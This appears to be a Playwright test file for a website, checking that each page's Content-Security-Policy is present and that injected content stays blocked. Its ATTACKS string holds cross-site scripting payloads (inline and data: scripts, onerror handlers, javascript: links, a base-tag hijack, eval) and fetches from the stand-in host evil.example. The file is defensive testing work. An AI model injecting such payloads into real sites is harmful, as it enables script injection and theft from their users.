"""Pages work under their content policies, and what does not belong to a page does not run on it.

That nothing is refused while pages are used – the planner, the search, both maps, saving, the driver's card – is a
part of every test in a browser: `nothing_is_refused` in tests/browser.py.
"""

from __future__ import annotations

from collections import Counter
from typing import Any

import pytest
from playwright.sync_api import Browser

from tests.browser import REFUSED
from tests.pages.conftest import Visit

LISTEN = """
window.refused = [];
addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
  refused.push(`${effectiveDirective} ${blockedURI}`);
}, true);
"""
OPEN_ALL = "for (const part of document.querySelectorAll('details')) part.open = true"
# Each tries to run a script, to ask another server or to lead the page astray; it says so by a name on the window.
ATTACKS = """async (elsewhere) => {
  await new Promise((done) => setTimeout(done)); // what a test asks for may call eval, until it waits
  const put = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
  put("script", { textContent: "window.ran = 'an inline script'" });
  put("script", { src: "data:text/javascript,window.ran='data'" });
  put("script", { src: `${elsewhere}x.js` });
  const holder = document.createElement("div");
  document.body.append(holder);
  holder.innerHTML = `<img src="x:" onerror="window.ran='a handler'"><p style="color:red">x</p>
    <iframe srcdoc="<script>parent.ran='a frame'</script>"></iframe><object data="${elsewhere}x"></object>
    <a id="attack" href="javascript:window.ran='a link'">x</a>
    <img src="${elsewhere}x.png"><base href="${elsewhere}">`;
  document.querySelector("#attack").click();
  try { window.eval("window.ran = 'eval'"); } catch {}
  try { new Function("window.ran = 'a function'")(); } catch {}
  const asked = await fetch(elsewhere).then(() => "answered", () => "refused");
  await new Promise((done) => setTimeout(done, 200));
  return [window.ran ?? "", asked, document.baseURI === location.href];
}"""


@pytest.fixture(scope="module")
def samples(visit: Visit) -> list[tuple[str, str, str]]:
    """A page of every kind in every language it has, also of kinds that lead on."""
    short = sorted(path.parent.relative_to(visit.folder).as_posix() for path in visit.folder.glob("q/*/index.html"))
    return [*visit.samples, ("short", "vi", f"{short[0]}/"), ("short", "en", f"{short[-1]}/")]


@pytest.mark.parametrize(("lang", "scheme", "width"), [("vi", "light", 360), ("en", "dark", 1280)])
def test_no_page_wants_what_its_policy_refuses(
    browser: Browser, visit: Visit, samples: list[tuple[str, str, str]], lang: str, scheme: Any, width: int
) -> None:
    size = {"width": width, "height": 800}
    context = browser.new_context(service_workers="allow", viewport=size, color_scheme=scheme)
    context.add_init_script(LISTEN)
    page = context.new_page()
    kinds: Counter[str] = Counter()
    for kind, _, path in (sample for sample in samples if sample[1] == lang):
        page.goto(visit.address + path)
        if kind == "short":  # its script leads on to another page at once
            assert "Content-Security-Policy" in (visit.folder / path / "index.html").read_text("utf-8")
            page.wait_for_url(lambda url: "/q/" not in url)
            assert REFUSED == [], (kind, lang, path)
            kinds[kind] += 1
            continue
        page.evaluate(OPEN_ALL)
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1, path
        assert page.evaluate("refused") == [], (kind, lang, path)
        assert REFUSED == [], (kind, lang, path)
        kinds[kind] += 1
    context.close()
    print(f"{sum(kinds.values())} pages of {len(kinds)} kinds in {lang}: nothing refused")
    assert len(kinds) >= (28 if lang == "vi" else 24)


@pytest.mark.parametrize("kind", ["home", "village", "planner", "search", "embedded_village", "leaflet", "admin"])
def test_what_was_slipped_into_a_page_does_not_run(browser: Browser, visit: Visit, kind: str) -> None:
    context = browser.new_context()
    asked: list[str] = []
    context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.fulfill(body="x")))
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.goto(visit.address + visit.of(kind))
    ran, answer, stays = page.evaluate(ATTACKS, "https://evil.example/")
    refused = page.evaluate("refused.length")
    REFUSED.clear()
    context.close()
    assert (ran, answer, stays, asked) == ("", "refused", True, [])
    assert refused >= 7


def test_a_policy_stands_first_of_what_the_browser_may_load(visit: Visit) -> None:
    """What comes before it is not held to it."""
    for _, _, path in visit.samples:
        file = visit.folder / path / "index.html" if path.endswith("/") or not path else visit.folder / path
        head = file.read_text("utf-8").partition("Content-Security-Policy")[0]
        assert head.count("<meta") == 2, path
        assert "<link" not in head, path
